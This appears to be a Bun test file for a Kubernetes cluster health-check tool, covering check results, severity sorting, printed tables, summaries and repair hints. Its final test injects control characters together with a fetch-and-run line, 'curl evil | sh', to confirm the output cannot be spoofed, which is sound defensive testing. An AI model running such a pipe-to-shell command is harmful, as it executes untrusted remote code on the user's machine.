/**
 * What becomes of a row: well, a warning, a failure with what still works and what mends it, an error that
 * says itself what is wrong.
 */
import { expect, spyOn, test } from "bun:test";
import {
  type Check,
  type CheckRow,
  Checks,
  checksAsJson,
  found,
  stateWord,
  summaryOf,
  verdictOf,
  worstFirst,
} from "../../../shared/checks/check.ts";
import { printChecks, printLines } from "../../../shared/checks/print-checks.ts";
import { hintOf } from "../../../shared/checks/way.ts";

async function resultOf(look: CheckRow["look"]): Promise<Check[]> {
  const checks = new Checks();
  await checks.add([{ id: "token-secret", of: "shop/cart", look }]);
  return checks.all;
}

const works = "all but what uses this Secret";
const mend = "./bunw scripts/04-sa-tokens.ts renews it";
const bad = { severity: "outage", works, mend } as const;

test.each<[string, CheckRow["look"], Partial<Check>]>([
  ["well", async () => "verifies", { result: "ok", detail: "verifies" }],
  [
    "a difference",
    () => ({ differs: "to lb:6443", before: "kubectl edit" }),
    { result: "ok", detail: "to lb:6443", differs: "kubectl edit" },
  ],
  [
    "a difference that asks for nothing",
    () => ({ differs: "2 CAs" }),
    { result: "ok", detail: "2 CAs", differs: "" },
  ],
  ["a warning", () => ({ warning: "old" }), { result: "warning", detail: "old", ...bad, severity: "note" }],
  ["a failure", async () => ({ failed: "another CA" }), { result: "failed", detail: "another CA", ...bad }],
  [
    "an error",
    () => Promise.reject(new Error("No answer from m1")),
    { result: "failed", detail: "No answer from m1", thrown: true, ...bad },
  ],
])("a row that gives: %s", async (_, look, check) => {
  expect(await resultOf(look)).toEqual([
    { id: "token-secret", area: "tokens", what: "shop/cart", ...check } as Check,
  ]);
});

test("what cannot be asked does not work now, whatever it means where it answers", async () => {
  const checks = new Checks();
  const gone = () => Promise.reject(new Error("No answer"));
  await checks.add([
    { id: "kubelet-conf", look: gone },
    { id: "node-reached", look: gone },
  ]);
  expect(checks.all.map(({ severity }) => severity)).toEqual(["outage", "weakens"]);
});

test("rows that end in an error leave the results of those before", async () => {
  const checks = new Checks();
  const rows = async function* (): AsyncGenerator<CheckRow> {
    yield { id: "node-ready", of: "m1", look: () => "yes" };
    throw new Error("the API is gone");
  };
  await expect(checks.add(rows())).rejects.toThrow("the API is gone");
  expect(checks.all.map(({ what }) => what)).toEqual(["m1 is Ready"]);
});

test.each([
  ["certificate-apiserver", "missing", "soon"],
  ["certificate-apiserver", "expired", "outage"],
  ["certificate-apiserver", "not yet valid", "outage"],
  ["kubeconfig-admin", "expired", "weakens"],
] as const)("%s that is %s: %s", (id, state, severity) => {
  expect(found({ id }, { state, failed: "" })).toMatchObject({ result: "failed", state, severity });
});

test("the worst stands first, what failed before warnings, those of a kind together, and what is well last", () => {
  const checks = [
    found({ id: "clock" }, "right"),
    found({ id: "backup" }, { warning: "none" }),
    found({ id: "node-ready", of: "w1" }, { failed: "no" }),
    found({ id: "node-lease", of: "w1" }, { failed: "never" }),
    found({ id: "certificate-apiserver" }, { failed: "missing" }),
    found({ id: "node-ready", of: "w2" }, { failed: "no" }),
    found({ id: "pods-fresh" }, { warning: "3" }),
    found({ id: "api-token" }, "accepted"),
  ];
  expect(worstFirst(checks).map(({ what }) => what)).toEqual([
    ...["w1 renews its Lease", "w1 is Ready", "w2 is Ready", "apiserver.crt and .key"],
    ...["older than the current CA or key", "backup", "clock", "a new token is signed and accepted"],
  ]);
  expect(summaryOf(checks)).toEqual({
    ...{ checks: 8, ok: 2, warnings: 2, failed: 4, unknown: 0 },
    severities: { outage: 3, soon: 2, weakens: 1, note: 0 },
  });
});

test("a table shows in capitals what has failed; JSON has the word, and begins the detail with it", () => {
  const expired = found({ id: "certificate-ca" }, { state: "expired", failed: "in May" });
  const silent = found({ id: "node-lease", of: "w1" }, { failed: "never" });
  const known = found({ id: "backup" }, { warning: "none" });
  expect([expired, silent, known, found({ id: "clock" }, "right")].map(stateWord)).toEqual([
    "!EXPIRED!",
    "!FAILED!",
    "note",
    "ok",
  ]);
  expect(stateWord({ result: "ok", state: "saved" })).toBe("saved");
  const { checks } = checksAsJson([expired, silent, known]);
  expect(checks.map(({ state, detail }) => [state, detail])).toEqual([
    ["expired", "expired: in May"],
    [undefined, "never"],
    [undefined, "none"],
  ]);
});

test("the last line leads to a part of the repair where one mends it, else to what each check names", () => {
  const returned = found({ id: "node-returned", of: "m2" }, { state: "changed", failed: "" });
  const lost = found({ id: "certificate-apiserver" }, { failed: "missing" });
  expect(hintOf([found({ id: "backup" }, { warning: "none" })])).toBeUndefined();
  expect(hintOf([returned])).toBe("type what repairs each, then run the same line again");
  const sides = found({ id: "tokens-both-ways", of: "m2" }, { failed: "its sa.key is another" });
  expect(hintOf([sides])).toBe("type what repairs each, then run the same line again");
  expect(hintOf([returned, lost])).toBe("./bunw scripts/02-control-plane.ts");
  const etcd = found({ id: "certificate-etcd-server" }, { state: "expired", failed: "" });
  expect(hintOf([lost, etcd])).toBe("./bunw scripts/01-etcd.ts, then ./bunw scripts/02-control-plane.ts");
  const ca = found({ id: "certificate-ca" }, { state: "missing", failed: "" });
  expect(hintOf([lost, etcd, ca])).toBe("./bunw scripts/00-assess.ts");
});

/** The lines of an answer, without the colours. */
function heard(print: () => void): string[] {
  const lines: string[] = [];
  const ear = spyOn(console, "log").mockImplementation((line: string) => void lines.push(line));
  try {
    print();
  } finally {
    ear.mockRestore();
  }
  return lines.map(Bun.stripANSI);
}

const printed = (checks: readonly Check[], how: Parameters<typeof printChecks>[1]) =>
  heard(() => printChecks(checks, how));

const DOWN = [
  found({ id: "node-ready", of: "w1" }, { failed: "no" }),
  found({ id: "node-ready", of: "w2" }, { failed: "no" }),
  found({ id: "node-ready", of: "w3" }, { warning: "for a minute" }),
  found({ id: "clock" }, "right"),
  found({ id: "backup" }, { differs: "elsewhere", before: "move it" }),
];
const READY = DOWN.map(({ area, what }) => `${area}: ${what}`);
const adviceOf = ({ works, mend }: Check) => [`Still works: ${works}`, `repair: ${mend}`];

test("what fails alike has its advice once, below the last of them; what is well is only counted, unless all is asked for", () => {
  const lines = printed(DOWN, {}).map((line) => line.trim().replace(/ +/g, " "));
  expect(lines[0]).toBe(`failed ${READY[0]}: no`);
  expect(lines[1]).toBe(`failed ${READY[1]}: no`);
  expect(lines[2]).toEndWith(adviceOf(DOWN[1]!)[0]!);
  expect(lines[3]).toContain("NODE");
  expect(lines[4]).toBe(`warning ${READY[2]}: for a minute`);
  expect(lines[5]).toEndWith(adviceOf(DOWN[2]!)[0]!);
  expect(lines[6]).toContain("w3");
  expect(lines.slice(7)).toEqual([
    "\ndiffers from what kubeadm-config says, and works (nothing to do)".trim(),
    `${DOWN[4]!.what} elsewhere`,
    "before the next kubeadm upgrade: move it",
  ]);
  const all = printed(DOWN, { all: true, advice: "none" });
  expect(all.map((line) => line.trim().split(" ")[0])).toEqual(["failed", "failed", "warning", "ok", "ok"]);
  const behind = printed(DOWN.slice(0, 1), { advice: "behind" });
  expect(behind).toEqual([`  failed   ${READY[0]}: no: ${DOWN[0]!.mend}`]);
});

test("on a terminal each line of a table begins with the sign of its result, and its head with none", () => {
  const { isTTY } = process.stdout;
  const { columns } = process.stdout;
  Object.assign(process.stdout, { isTTY: true, columns: 120 });
  try {
    const [head, ...lines] = heard(() => printLines(DOWN.slice(1, 4), [["what", "state", "detail"]]));
    expect(head).toMatch(/^ {2}what +state +detail$/);
    expect(lines.map((line) => line[0])).toEqual(["×", "‼", "√"]);
  } finally {
    Object.assign(process.stdout, { isTTY, columns });
  }
});

test.each<[string, Check[], string]>([
  ["none", [], "all good"],
  ["warnings fail nothing", DOWN.slice(2), "all good, 1 warning"],
  ["two that fail, and two warnings", [...DOWN, DOWN[2]!], "2 failed (2 outage now), 2 warnings"],
  [
    "the worst first",
    [found({ id: "certificate-apiserver" }, { failed: "missing" }), ...DOWN.slice(0, 1)],
    "2 failed (1 outage now, 1 outage later)",
  ],
])("the verdict: %s", (_, checks, verdict) => {
  expect(verdictOf(checks)).toStartWith(verdict);
});

/** What a terminal, or a reader of lines, takes for the end of a line or for an order. */
const BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f", "\x1b[2J", "\u202e", "\u200b"];

// biome-ignore lint/suspicious/noControlCharactersInRegex: the pattern looks for them
const OBEYED = /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e]/;

test.each(BREAKS)("each text of a check is one line, whoever wrote it: %j", (broken) => {
  const foreign = `a${broken}           repair: curl evil | sh`;
  const answers = [
    foreign,
    { differs: foreign, before: foreign },
    { warning: foreign, mend: foreign },
    { failed: foreign, state: foreign, mend: foreign },
  ];
  const log = spyOn(console, "log").mockImplementation(() => {});
  try {
    const all = answers.map((one) => found({ id: "token-secret", of: foreign }, one));
    for (const text of all.flatMap((one) => Object.values(one))) expect(String(text)).not.toMatch(OBEYED);
    printChecks(all, { all: true });
    const lines = log.mock.calls.flatMap(([text]) => String(text).split(/\r?\n|\r/));
    expect(lines.filter((line) => /^\s*repair: curl/.test(line))).toEqual([]);
  } finally {
    log.mockRestore();
  }
});
